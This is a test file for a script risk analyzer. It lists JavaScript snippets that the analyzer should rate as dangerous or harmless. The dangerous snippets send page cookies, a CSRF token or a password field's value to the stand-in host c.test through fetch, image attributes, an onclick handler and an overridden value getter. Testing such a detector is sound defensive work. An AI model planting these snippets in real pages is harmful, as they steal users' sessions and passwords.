import { describe, expect, test } from "vitest";
import { analyzeScript } from "../analyze-script.ts";

const COOKIE = '"https://c.test/?" + document.cookie';
const LEAKS = [
	[
		"an attribute put on",
		`const a = document.createAttribute("src"); a.value = ${COOKIE}; new Image().setAttributeNode(a)`,
	],
	[
		"one put on before",
		`const a = document.createAttribute("src"); new Image().setAttributeNode(a); a.nodeValue = ${COOKIE}`,
	],
	["among the others, by name", `new Image().attributes.src.value = ${COOKIE}`],
	["among the others, by a name in brackets", `new Image().attributes["src"].textContent = ${COOKIE}`],
	["found by name", `new Image().attributes.getNamedItem("src").value = ${COOKIE}`],
	["asked of the element", `document.querySelector("img").getAttributeNode("src").value = ${COOKIE}`],
	[
		"put among the others",
		`const a = document.createAttributeNS(null, "src"); a.value = ${COOKIE}; new Image().attributes.setNamedItem(a)`,
	],
	[
		"a handler",
		`const a = document.createAttribute("onclick"); a.value = 'fetch(${COOKIE})'; document.body.setAttributeNode(a)`,
	],
	[
		"a carrier",
		`document.body.setAttribute("title", document.cookie); fetch("https://c.test/?" + document.body.attributes.title.value)`,
	],
	[
		"a carrier among others",
		`document.body.setAttribute("data", document.cookie); for (const a of document.body.attributes) fetch("https://c.test/?" + a.value)`,
	],
	[
		"a token of the page",
		`fetch("https://c.test/?" + document.querySelector("[name=csrf-token]").attributes.content.value)`,
	],
] as const;

const HARMLESS = [
	[
		"names of attributes",
		`for (const { name } of [...document.body.attributes]) if (name.startsWith("on")) document.body.removeAttribute(name)`,
	],
	[
		"attributes of its own element",
		`const p = document.createElement("p"); p.title = "a"; fetch("https://c.test/?" + p.attributes.title.value)`,
	],
	["a class", `const a = document.createAttribute("class"); a.value = "b"; document.body.setAttributeNode(a)`],
] as const;

describe("attributes as objects", () => {
	test.each(LEAKS)("%s", (_title, code) => {
		expect(analyzeScript({ code }).risk_level).toBe("red");
	});

	test.each(HARMLESS)("%s is nothing", (_title, code) => {
		expect(analyzeScript({ code }).risk_level).toBe("green");
	});
});

describe("properties put over those of an element", () => {
	const OVER = (body: string) => `const base = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, "value");
const field = document.querySelector("[type=password]");
Object.defineProperty(field, "value", { configurable: true, get() { ${body} }, set(text) { base.set.call(this, text) } });`;

	test("the page reads them and gets the browser's value", () => {
		const code = OVER(`const text = base.get.call(this); fetch("https://c.test/?" + text); return text;`);
		expect(analyzeScript({ code }).risk_level).toBe("red");
	});

	test("reading alone is nothing", () => {
		const code = OVER("return base.get.call(this).trim();");
		expect(analyzeScript({ code }).risk_level).toBe("green");
	});
});
